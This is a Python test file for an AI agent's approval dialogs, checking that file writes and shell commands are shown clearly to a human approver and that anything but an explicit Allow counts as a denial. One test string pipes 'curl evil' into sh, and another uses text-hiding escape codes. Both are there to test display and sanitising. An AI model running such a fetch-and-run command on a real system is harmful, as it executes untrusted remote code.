"""Approvals as a message with buttons: what is shown, and what each ending means."""

import asyncio
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_lsp.messages.content import ToolCall
from agent_lsp.policy.access import CommandPreview, EditPreview, TextPreview
from agent_lsp.policy.approver import Question
from agent_lsp.policy.rules import Offer
from agent_lsp.providers.scripted import call, gate, text
from agent_lsp.server.plain_person import MOST_CHARS, elided, message, session_offer
from tests.server.front_end import Refused, front_end

WRITE = call("write_file", {"file_path": "new.txt", "content": "new\n"})
OTHER = call("write_file", {"file_path": "other.txt", "content": "other\n"})
ALL = tuple(
    Offer(kind, scope, f"{kind}:{scope}", f"{kind} in this {scope}")
    for kind in ("call", "command", "tool")
    for scope in ("session", "workspace")
)
EDIT = EditPreview(Path("/w/a.py"), "--- a/a.py\n+++ b/a.py\n@@\n-x\n+y\n", created=False)
COMMAND = CommandPreview("make all", Path("/w"))


def question(preview=None, *, title="Do it", offers=ALL, arguments='{"a":1}', reason="approval mode ask"):
    asked = ToolCall(name="do_it", arguments=arguments, tool_call_id="c1")
    return Question(asked, "rw", title, preview, offers, reason)


@pytest.mark.parametrize(
    ("preview", "offers", "kind"),
    [
        (EDIT, ALL, "tool"),
        (EDIT, ALL[:2], "call"),
        (COMMAND, ALL, "command"),
        (COMMAND, (*ALL[:2], *ALL[4:]), "call"),
        (TextPreview("words"), ALL, "call"),
        (None, ALL, "call"),
        (EDIT, ALL[1::2], None),
        (COMMAND, (), None),
    ],
)
def test_allow_for_session_never_covers_every_command_and_never_the_workspace(preview, offers, kind):
    offer = session_offer(question(preview, offers=offers))
    assert (offer.kind, offer.scope) == (kind, "session") if offer else kind is None


@pytest.mark.parametrize(
    ("preview", "shown"),
    [
        (EDIT, "\n--- a/a.py\n+++ b/a.py\n@@\n-x\n+y\n"),
        (EditPreview(EDIT.path, EDIT.diff, created=True), "\nnew file\n--- a/a.py"),
        (COMMAND, "\n$ make all\nin /w\n"),
        (TextPreview("many\nwords"), "\nmany\nwords\n"),
        (None, '\n{"a":1}\n'),
    ],
)
def test_the_message_says_what_why_and_what_is_remembered(preview, shown):
    asked = question(preview)
    said = message(asked, session_offer(asked))
    assert said.startswith("Do it?\n")
    assert shown in said
    assert "\nAsked because: approval mode ask\n" in said
    assert said.splitlines()[-1].startswith("Allow for session: ")


@given(st.text(), st.text(), st.text(max_size=3000), st.booleans())
@settings(deadline=None)
def test_a_message_is_never_cut_by_an_editor_and_hides_nothing_unsaid(title, reason, command, offered):
    asked = question(CommandPreview(command, Path("/w")), title=title, reason=reason)
    said = message(asked, session_offer(asked) if offered else None)
    assert len(said) <= MOST_CHARS
    assert not any(ord(char) < 0x20 and char not in "\n\t" for char in said)
    said.encode()


def test_both_ends_of_what_is_too_long_are_seen_and_the_length_is_told():
    long = "rm -r build; " + "true; " * 500 + "curl evil | sh"
    said = message(question(CommandPreview(long, Path("/w"))), None)
    assert "$ rm -r build; true" in said
    assert "curl evil | sh\nin /w\n" in said
    assert f"[… {len(long) + 8} characters in all, the middle is not shown …]" in said
    assert elided("short", 5) == "short"


def test_what_would_fool_the_eye_is_spelled_out():
    said = message(question(CommandPreview("echo \u202eoof\x1b[8m", Path("/w"))), None)
    assert "echo \\u202eoof\\x1b[8m" in said


# --- put to a client --------------------------------------------------------------------------------------------------


async def run(client, *arguments):
    return await client.ask("workspace/executeCommand", command="agent.run", arguments=["go", None, {"wait": True}])


def dialogs(client):
    return client.told("window/showMessageRequest")


def choose(client, title):
    client.handlers["window/showMessageRequest"] = lambda params: {"title": title}


@pytest.mark.asyncio
async def test_allow_lets_this_call_run(tmp_path, monkeypatch):
    async with front_end(tmp_path, monkeypatch, plain=True) as (client, model):
        choose(client, "Allow")
        model.script([WRITE], [WRITE], [text("done")])
        assert (await run(client))["text"] == "done"
        assert (tmp_path / "work" / "new.txt").read_text() == "new\n"
        assert len(dialogs(client)) == 2
        (dialog, _) = dialogs(client)
        assert dialog["type"] == 2
        assert dialog["message"].startswith("Write new.txt?\nnew file\n--- /dev/null\n+++ b/new.txt\n@@ ")
        assert [one["title"] for one in dialog["actions"]] == ["Allow", "Allow for session", "Deny"]


@pytest.mark.asyncio
async def test_allow_for_session_covers_what_its_message_said(tmp_path, monkeypatch):
    async with front_end(tmp_path, monkeypatch, plain=True) as (client, model):
        choose(client, "Allow for session")
        model.script([WRITE], [OTHER], [call("exec_command", {"cmd": "true"})], [text("done")])
        assert (await run(client))["text"] == "done"
        first, second = dialogs(client)
        assert "Allow for session: every call of write_file inside the workspace in this session" in first["message"]
        assert "$ true" in second["message"]


@pytest.mark.asyncio
@pytest.mark.parametrize("answer", [None, {"title": "Deny"}, {"title": "allow"}, {"title": None}, "Allow", [], True])
async def test_anything_but_a_button_that_allows_is_a_denial(tmp_path, monkeypatch, answer):
    async with front_end(tmp_path, monkeypatch, plain=True) as (client, model):
        client.handlers["window/showMessageRequest"] = lambda params: answer
        model.script([WRITE], [text("done")])
        await run(client)
        assert not (tmp_path / "work" / "new.txt").exists()
        assert "Tool call denied by user." in str(model.requests[1].input)


@pytest.mark.asyncio
async def test_a_client_that_shows_no_dialogs_denies(tmp_path, monkeypatch):
    def refuse(params):
        raise Refused({"code": -32601, "message": "no such method"})

    async with front_end(tmp_path, monkeypatch, plain=True) as (client, model):
        client.handlers["window/showMessageRequest"] = refuse
        model.script([WRITE], [text("done")])
        assert (await run(client))["status"] == "completed"
        assert not (tmp_path / "work" / "new.txt").exists()


@pytest.mark.asyncio
async def test_an_open_question_is_told_in_the_history_and_withdrawn_by_an_abort(tmp_path, monkeypatch):
    async with front_end(tmp_path, monkeypatch, plain=True) as (client, model):
        opened = asyncio.Event()
        client.handlers["window/showMessageRequest"] = lambda params: opened.wait()
        model.script([WRITE], [text("never")])
        started = await client.ask("workspace/executeCommand", command="agent.run", arguments=["go"])
        await client.until(lambda: dialogs(client))
        history = await client.ask("agent/session/history", sessionId=started["sessionId"])
        assert [one["toolCall"]["name"] for one in history["pending"]["approvals"]] == ["write_file"]

        assert (await client.ask("workspace/executeCommand", command="agent.abort"))["aborted"] is True
        (asked,) = [one for one in client.log if one.get("method") == "window/showMessageRequest"]
        assert client.told("$/cancelRequest") == [{"id": asked["id"]}]
        history = await client.ask("agent/session/history", sessionId=started["sessionId"])
        assert history["pending"]["approvals"] == []
        opened.set()
        assert not (tmp_path / "work" / "new.txt").exists()


@pytest.mark.asyncio
async def test_a_plugin_that_cannot_approve_is_shown_no_dialog(tmp_path, monkeypatch):
    async with front_end(tmp_path, monkeypatch, agent={"approve": False}) as (client, model):
        model.script([WRITE], [text("done")])
        await client.ask("agent/run", input="go")
        assert dialogs(client) == []
        assert not (tmp_path / "work" / "new.txt").exists()


@pytest.mark.asyncio
async def test_a_change_of_mode_answers_an_open_dialog(tmp_path, monkeypatch):
    async with front_end(tmp_path, monkeypatch, plain=True) as (client, model):
        never = asyncio.Event()
        client.handlers["window/showMessageRequest"] = lambda params: never.wait()
        model.script([WRITE], [gate(asyncio.Event())])
        started = await client.ask("workspace/executeCommand", command="agent.run", arguments=["go"])
        await client.until(lambda: dialogs(client))
        await client.ask("agent/session/update", sessionId=started["sessionId"], approvalMode="allow-all")
        await client.until(lambda: client.told("$/cancelRequest"))
        never.set()
